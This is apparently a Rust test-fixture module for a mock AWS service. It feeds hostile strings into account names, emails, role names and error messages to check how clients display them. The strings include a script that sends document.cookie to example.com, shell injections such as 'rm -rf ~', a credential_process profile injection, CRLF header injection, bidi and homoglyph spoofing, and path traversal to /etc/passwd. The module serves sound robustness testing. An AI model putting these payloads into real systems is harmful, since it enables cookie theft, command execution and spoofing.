//! Hostile: texts that a person who may name things, or break things, could put where clients show them.

use axum::body::{Body, Bytes, to_bytes};
use axum::http::header::{CONTENT_LENGTH, CONTENT_TYPE};
use axum::response::Response;
use serde_json::Value;

use crate::organisation::Account;

/// Names for people, as hostile as AWS lets them be and more so.
pub const TEXTS: [&str; 18] = [
    "<img src=x onerror=alert(document.domain)>",
    "<script>fetch('https://example.com/'+document.cookie)</script>",
    "\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7} \u{1b}[2J",
    "\u{9b}31mred in one byte, and \u{9d}0;title\u{9c}",
    "invoice-\u{202e}dorp\u{202c}",
    "\u{2066}prod\u{2069}\u{200b}\u{feff}",
    "payments-pr\u{43e}d",
    "\"; rm -rf ~; echo \"",
    "'$(touch owned)' `id`",
    "prod\n[profile default]\ncredential_process = /tmp/owned",
    "prod\r\nSet-Cookie: owned=1",
    "${aws:username}",
    "{{constructor.constructor('alert(1)')()}} %s%n ${IFS}",
    "=HYPERLINK(\"https://example.com\")",
    "../../../../etc/passwd\0.txt",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466} \u{1f1e9}\u{1f1ea}\u{1f3f4}\u{200d}\u{2620}\u{fe0f}",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}a\u{34a}\u{365}l",
    "   ",
];

/// Role names that IAM takes, and that a program may take for something else.
const ROLES: [&str; 8] = [
    "--help",
    "-rf",
    "=1+1",
    "@import",
    "..",
    "null",
    "a,b=c",
    "LongestRoleNameThatIdentityAndAccessManagementAllowsHas64Letters",
];

/// Gives every account but the first four a hostile name and address, and one odd role in place of its first.
pub(crate) fn rename(accounts: &mut [Account]) {
    for (number, account) in accounts.iter_mut().skip(4).enumerate() {
        let text = TEXTS[number % TEXTS.len()];
        let round = number / TEXTS.len();
        account.name = match round {
            0 => text.to_owned(),
            // Longer than anything AWS takes, but what would hold it back on a bad day?
            1 => text.repeat(4096 / text.len()),
            _ => format!("{text} {round}"),
        };
        account.email = format!("\"{text}\"@example.com");
        if let Some(role) = account.roles.first_mut() {
            *role = ROLES[number % ROLES.len()].to_owned();
        }
    }
}

/// A refusal of AWS with hostile text where its message was.
pub(crate) async fn reword(response: Response) -> Response {
    let is_json = is_of(&response, b"application/json") || is_of(&response, b"application/x-amz-json");
    let is_xml = is_of(&response, b"text/xml") || is_of(&response, b"application/xml");
    if response.status().is_success() || !(is_json || is_xml) {
        return response;
    }
    let (mut parts, body) = response.into_parts();
    let whole = to_bytes(body, usize::MAX).await.unwrap_or_else(|_| Bytes::new());
    let reworded = if is_json { reword_json(&whole) } else { reword_xml(&whole) };
    parts.headers.remove(CONTENT_LENGTH);
    Response::from_parts(parts, reworded.map_or(Body::from(whole), Body::from))
}

fn is_of(response: &Response, content_type: &[u8]) -> bool {
    response.headers().get(CONTENT_TYPE).is_some_and(|given| given.as_bytes().starts_with(content_type))
}

fn reword_json(body: &[u8]) -> Option<String> {
    let mut error: Value = serde_json::from_slice(body).ok()?;
    for field in ["message", "error_description"] {
        if let Some(message) = error.get_mut(field) {
            *message = TEXTS.join(" ").into();
        }
    }
    Some(error.to_string())
}

fn reword_xml(body: &[u8]) -> Option<String> {
    let (before, rest) = std::str::from_utf8(body).ok()?.split_once("<Message>")?;
    let (_, after) = rest.split_once("</Message>")?;
    // XML can't hold control characters, not even escaped.
    let text: String = TEXTS.join(" ").chars().filter(|character| !character.is_control()).collect();
    let text = text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    Some(format!("{before}<Message>{text}</Message>{after}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn odd_role_names_are_legal_for_iam() {
        for role in ROLES {
            assert!((1..=64).contains(&role.len()), "{role}");
            assert!(
                role.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+=,.@_-".contains(&byte)),
                "{role}"
            );
        }
    }
}
